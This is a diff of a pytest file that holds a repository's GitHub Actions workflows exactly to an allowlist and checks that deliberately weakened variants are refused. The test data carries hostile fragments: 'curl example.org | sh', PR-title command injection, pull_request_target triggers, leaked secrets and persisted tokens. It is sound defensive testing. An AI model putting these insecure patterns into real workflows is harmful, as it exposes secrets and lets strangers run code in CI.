@@ -1,140 +1,150 @@
-"""What a workflow may do: code that a stranger can change gets nothing to write with, and no text becomes a command."""
+"""What a workflow may do: each is, key by key, what ``workflows.py`` lists.
 
-import re
-from collections.abc import Callable, Iterator
+GitHub runs these files with what the repository has to give away, and a change of one word can give it away, or let
+every check pass. So no list of what is forbidden is kept: whatever is not listed is refused.
+"""
+
+from collections.abc import Iterator
 from pathlib import Path
-from typing import Any, TypeAlias
+from typing import Any
 
 import pytest
 import yaml
 
+from tests.workflows import ALLOWED, CHECKOUT
+
 ROOT = Path(__file__).parents[1]
-WORKFLOWS = sorted((ROOT / ".github/workflows").glob("*.y*ml"))
-TRIGGERS = {"push", "pull_request", "schedule", "workflow_dispatch"}
-"""None of these hands a secret or a token that can write to code from a fork."""
-PUBLISHERS = {"actions/deploy-pages"}
-"""Actions that take a finished artifact and run nothing of the repository."""
-PINNED = re.compile(r"actions/[\w-]+@[0-9a-f]{40}")
-
-Workflow: TypeAlias = dict[Any, Any]
+WORKFLOWS = ROOT / ".github/workflows"
 
 
-def load(path: Path) -> Workflow:
+def read(text: str) -> Any:  # noqa: ANN401 - whatever YAML can say
     """A workflow; YAML reads its key ``on`` as a truth value."""
-    workflow: Workflow = yaml.safe_load(path.read_text("utf-8"))
+    workflow = yaml.safe_load(text)
     return {"on" if key is True else key: value for key, value in workflow.items()}
 
 
-def grants(permissions: object) -> bool:
-    """Say whether permissions let anything be written; none at all stand for the defaults, which may."""
-    return not isinstance(permissions, dict) or any(access not in ("read", "none") for access in permissions.values())
+def differences(found: object, allowed: object, place: str = "") -> Iterator[str]:
+    """Where a workflow is not what is allowed, each as its place, such as ``jobs.check.steps.2.run``."""
+    if isinstance(found, dict) and isinstance(allowed, dict):
+        for key in dict.fromkeys((*found, *allowed)):
+            yield from differences(found.get(key, "missing"), allowed.get(key, "missing"), f"{place}.{key}")
+    elif isinstance(found, list) and isinstance(allowed, list) and len(found) == len(allowed):
+        for number, pair in enumerate(zip(found, allowed, strict=True)):
+            yield from differences(*pair, f"{place}.{number}")
+    elif (type(found), found) != (type(allowed), allowed):
+        yield place.removeprefix(".")
 
 
-def faults_of_step(step: dict[str, Any]) -> Iterator[str]:
-    """What is wrong with a step."""
-    action, options = str(step.get("uses", "")), step.get("with", {})
-    if action and not PINNED.fullmatch(action):
-        yield f"uses {action}, which can change"
-    if action.startswith("actions/checkout") and options.get("persist-credentials") is not False:
-        yield "leaves the token where the code that it checks out can read it"
-    if "${{" in f"{step.get('run')} {step.get('shell')} {options.get('script')}":
-        yield "puts a text into a command"
+def test_every_workflow_is_listed() -> None:
+    """Whatever its name ends with, and none is listed that is gone."""
+    assert sorted(path.name for path in WORKFLOWS.iterdir()) == sorted(ALLOWED)
 
 
-def faults_of_job(name: str, job: dict[str, Any]) -> Iterator[str]:
-    """What is wrong with a job."""
-    steps = job.get("steps", [])
-    if not isinstance(job.get("timeout-minutes"), int):
-        yield f"{name} may run for ever"
-    if job.get("runs-on") != "ubuntu-latest":
-        yield f"{name} does not run on a machine that is thrown away"
-    if "uses" in job:
-        yield f"{name} runs a workflow from elsewhere"
-    publishes = all(str(step.get("uses")).partition("@")[0] in PUBLISHERS for step in steps)
-    if grants(job.get("permissions", {})) and not publishes:
-        yield f"{name} may write, and runs code"
-    yield from (f"{name} {fault}" for step in steps for fault in faults_of_step(step))
+@pytest.mark.parametrize("name", ALLOWED)
+def test_workflow_is_what_is_allowed(name: str) -> None:
+    """To the last key and value."""
+    assert list(differences(read((WORKFLOWS / name).read_text("utf-8")), ALLOWED[name])) == []
 
 
-def faults(workflow: Workflow) -> list[str]:
-    """What is wrong with a workflow."""
-    found = []
-    triggers = workflow["on"]
-    if unknown := {triggers} - TRIGGERS if isinstance(triggers, str) else set(triggers) - TRIGGERS:
-        found.append(f"runs on {', '.join(sorted(unknown))}")
-    if grants(workflow.get("permissions")):
-        found.append("may write")
-    if re.search(r"\bsecrets\b|github\.token|GITHUB_TOKEN", yaml.safe_dump(workflow)):
-        found.append("names a secret")
-    return found + [fault for name, job in workflow["jobs"].items() for fault in faults_of_job(name, job)]
+@pytest.mark.parametrize("name", ALLOWED)
+def test_workflow_runs_files_of_the_repository(name: str) -> None:
+    """A command is one file, which anyone can run without GitHub; the one that publishes runs nothing of it."""
+    runs = [step["run"] for job in ALLOWED[name]["jobs"].values() for step in job["steps"] if "run" in step]
+    scripts = [run.removeprefix("bash ") for run in runs if not run.startswith("pipx ")]
+
+    assert [script for script in scripts if not (ROOT / script).is_file()] == []
 
 
-@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.name)
-def test_workflow_is_safe(path: Path) -> None:
-    """Every workflow, with all its jobs, keeps to what SECURITY.md says."""
-    assert faults(load(path)) == []
+@pytest.mark.parametrize("name", ALLOWED)
+def test_job_that_may_write_runs_none_of_the_repository(name: str) -> None:
+    """It checks out nothing, so there is nothing to run."""
+    writing = [job for job in ALLOWED[name]["jobs"].values() if "write" in job.get("permissions", {}).values()]
+
+    assert [job for job in writing if CHECKOUT in job["steps"]] == []
 
 
-def test_there_is_a_workflow_for_each_purpose() -> None:
-    """Changes are checked, the site is published, and new releases are tried."""
-    assert {path.stem for path in WORKFLOWS} >= {"check", "publish", "upgrade"}
+@pytest.mark.parametrize("name", ALLOWED)
+def test_action_is_github_s_own_and_says_its_version(name: str) -> None:
+    """A hash says nothing to who reads it."""
+    lines = [line for line in (WORKFLOWS / name).read_text("utf-8").splitlines() if "uses:" in line]
+
+    assert [line for line in lines if "uses: actions/" not in line or "# v" not in line] == []
 
 
-def test_workflow_runs_files_of_the_repository() -> None:
-    """A command is one file, which anyone can run without GitHub."""
-    runs = [
-        step["run"]
-        for path in WORKFLOWS
-        for job in load(path)["jobs"].values()
-        for step in job["steps"]
-        if "run" in step
-    ]
+RUN = "run: bash .ci/run"
+TIMEOUT = "    timeout-minutes: 60\n"
+PERMISSIONS = "permissions:\n  contents: read\n"
+CREDENTIALS = "persist-credentials: false"
+PINNED = "@3d3c42e5aac5ba805825da76410c181273ba90b1"
+TITLE, SECRET = "${{ github.event.pull_request.title }}", "${{ secrets.KEY }}"
+JOB = "jobs:\n  x: {runs-on: ubuntu-latest, timeout-minutes: 9, steps: [{run: curl example.org | sh}]}\n"
+KEPT = "jobs.check.steps.0.with.persist-credentials"
+"""Where it is said that a job's code finds no token."""
+STEP = "jobs.check.steps.2"
+"""The one that checks."""
+ALTERED: dict[str, list[tuple[str, str, str]]] = {
+    # what stands in a workflow, what stands there instead, and where that is refused
+    "check.yml": [
+        # strangers' code gets what it must not have: a secret, a token, a machine
+        ("  pull_request:", "  pull_request_target:", "on.pull_request_target on.pull_request"),
+        (PERMISSIONS, "permissions:\n  contents: write\n", "permissions.contents"),
+        (PERMISSIONS, "permissions: write-all\n", "permissions"),
+        (PERMISSIONS, "", "permissions"),  # the defaults may write
+        (CREDENTIALS, "persist-credentials: true", KEPT),
+        (CREDENTIALS, "persist-credentials: 0", KEPT),  # equal to false in Python, and a text to the action
+        (CREDENTIALS, "fetch-depth: 1", f"jobs.check.steps.0.with.fetch-depth {KEPT}"),  # true where nothing is said
+        (RUN, f"{RUN}\n        env: {{KEY: '{SECRET}'}}", f"{STEP}.env"),
+        (RUN, f"run: echo {TITLE}", f"{STEP}.run"),  # a title may hold a command
+        (PERMISSIONS, f"env: {{BASH_ENV: docs/a.sh}}\n{PERMISSIONS}", "env"),  # runs before each command
+        ("runs-on: ubuntu-latest", "runs-on: self-hosted", "jobs.check.runs-on"),
+        # what runs is not what was read
+        (PINNED, "@v7", "jobs.check.steps.0.uses"),  # a tag can move
+        (PINNED, f"@{'0' * 40}", "jobs.check.steps.0.uses"),  # a commit may be that of a fork
+        ("actions/setup-python@", "someone/setup-python@", "jobs.check.steps.1.uses"),
+        (CREDENTIALS, f"{CREDENTIALS}\n          ref: other", "jobs.check.steps.0.with.ref"),
+        (RUN, "run: curl example.org | sh", f"{STEP}.run"),
+        ("jobs:\n", JOB, "jobs.x"),
+        (RUN, f"{RUN}\n    container: someone/image", "jobs.check.container"),
+        # it passes whatever is wrong
+        (RUN, f"{RUN} || true", f"{STEP}.run"),
+        (RUN, f"{RUN}\n        continue-on-error: true", f"{STEP}.continue-on-error"),
+        (TIMEOUT, f"{TIMEOUT}    continue-on-error: true\n", "jobs.check.continue-on-error"),
+        (RUN, f"{RUN}\n        shell: 'true {{0}}'", f"{STEP}.shell"),  # what is run is never read
+        (PERMISSIONS, f"defaults: {{run: {{shell: 'true {{0}}'}}}}\n{PERMISSIONS}", "defaults"),
+        (RUN, f"{RUN}\n        if: false", f"{STEP}.if"),
+        (TIMEOUT, f"{TIMEOUT}    if: false\n", "jobs.check.if"),
+        (f"      - {RUN}\n", "", "jobs.check.steps"),
+        (', "3.14"', "", "jobs.check.strategy.matrix.python"),
+        ('"3.14"]', '"3.14"]\n        exclude: [{python: "3.14"}]', "jobs.check.strategy.matrix.exclude"),
+        ('"3.11",', "3.11,", "jobs.check.strategy.matrix.python.0"),  # as a number 3.10 would be 3.1
+        ("  pull_request:\n", "  pull_request: {paths-ignore: ['**']}\n", "on.pull_request"),
+        ("  pull_request:\n", "", "on.pull_request"),
+        (TIMEOUT, "", "jobs.check.timeout-minutes"),  # six hours
+    ],
+    "upgrade.yml": [('  schedule:\n    - cron: "17 4 * * 1"\n', "", "on.schedule")],
+    "publish.yml": [
+        # what is published is not what was checked
+        ("branches: [main]", "branches: ['**']", "on.push.branches.0"),
+        ("    needs: build\n", "", "jobs.deploy.needs"),
+        ("path: site", "path: .", "jobs.build.steps.3.with.path"),
+        ("pages: write", "pages: write\n      contents: write", "jobs.deploy.permissions.contents"),
+        ("    environment:\n      name: github-pages\n", "", "jobs.deploy.environment"),  # which lets main alone pass
+    ],
+    "release.yml": [
+        # as above
+        ("    environment:\n      name: release\n", "", "jobs.publish.environment"),
+        ('tags: ["v*"]', 'branches: ["**"]', "on.push.branches on.push.tags"),
+        ("uv==0.13.9", "uv", "jobs.publish.steps.1.run"),  # whatever is the newest
+    ],
+}
 
-    assert sorted(set(runs)) == ["bash .ci/run", "bash .ci/upgrade"]
-    assert [run for run in runs if not (ROOT / run.removeprefix("bash ")).is_file()] == []
 
+@pytest.mark.parametrize(("name", "row"), [(name, row) for name, rows in ALTERED.items() for row in rows])
+def test_altered_workflow_is_refused(name: str, row: tuple[str, str, str]) -> None:
+    """Where it was altered, and nowhere else."""
+    before, after, places = row
+    text = (WORKFLOWS / name).read_text("utf-8")
+    assert before in text
+    altered = read(text.replace(before, after, 1))
 
-def step(job: str, number: int, **keys: object) -> Callable[[Workflow], None]:
-    """Alter a step of a job."""
-    return lambda workflow: workflow["jobs"][job]["steps"][number].update(keys)
-
-
-def job(name: str, **keys: object) -> Callable[[Workflow], None]:
-    """Alter a job."""
-    return lambda workflow: workflow["jobs"][name].update({key.replace("_", "-"): value for key, value in keys.items()})
-
-
-CHECKOUT = {"uses": f"actions/checkout@{'0' * 40}", "with": {"persist-credentials": False}}
-ALTERED: list[tuple[str, Callable[[Workflow], None]]] = [
-    ("runs on pull_request_target", lambda workflow: workflow["on"].update(pull_request_target=None)),
-    ("runs on issue_comment", lambda workflow: workflow.update(on=["push", "issue_comment"])),
-    ("runs on workflow_run", lambda workflow: workflow.update(on="workflow_run")),
-    ("may write", lambda workflow: workflow.pop("permissions")),
-    ("may write", lambda workflow: workflow.update(permissions="write-all")),
-    ("may write", lambda workflow: workflow["permissions"].update(contents="write")),
-    ("names a secret", lambda workflow: workflow.update(env={"KEY": "${{ secrets.KEY }}"})),
-    ("names a secret", lambda workflow: workflow.update(env={"KEY": "${{ secrets['KEY'] }}"})),
-    ("names a secret", step("build", 2, env={"KEY": "${{ github.token }}"})),
-    ("build may run for ever", lambda workflow: workflow["jobs"]["build"].pop("timeout-minutes")),
-    ("build does not run on a machine that is thrown away", job("build", runs_on="self-hosted")),
-    ("build runs a workflow from elsewhere", job("build", uses="someone/else/.github/workflows/a.yml@main")),
-    ("build may write, and runs code", job("build", permissions={"pages": "write"})),
-    ("build may write, and runs code", job("build", permissions="write-all")),
-    ("deploy may write, and runs code", lambda workflow: workflow["jobs"]["deploy"]["steps"].append({"run": "true"})),
-    ("deploy may write, and runs code", lambda workflow: workflow["jobs"]["deploy"]["steps"].append(CHECKOUT)),
-    ("build uses actions/checkout@v7, which can change", step("build", 0, uses="actions/checkout@v7")),
-    ("build uses ./.github/actions/a, which can change", step("build", 1, uses="./.github/actions/a")),
-    (f"build uses someone/else@{'0' * 40}, which can change", step("build", 1, uses=f"someone/else@{'0' * 40}")),
-    ("build leaves the token where the code that it checks out can read it", step("build", 0, **{"with": {}})),
-    ("build puts a text into a command", step("build", 2, run='echo "${{ github.event.pull_request.title }}"')),
-    ("build puts a text into a command", step("build", 1, **{"with": {"script": "${{ github.head_ref }}"}})),
-]
-
-
-@pytest.mark.parametrize(("fault", "alter"), ALTERED)
-def test_unsafe_workflow_is_found_out(fault: str, alter: Callable[[Workflow], None]) -> None:
-    """Each thing that a workflow must not do, done to the one that publishes."""
-    workflow = load(ROOT / ".github/workflows/publish.yml")
-    alter(workflow)
-
-    assert faults(workflow) == [fault]
+    assert list(differences(altered, ALLOWED[name])) == places.split()
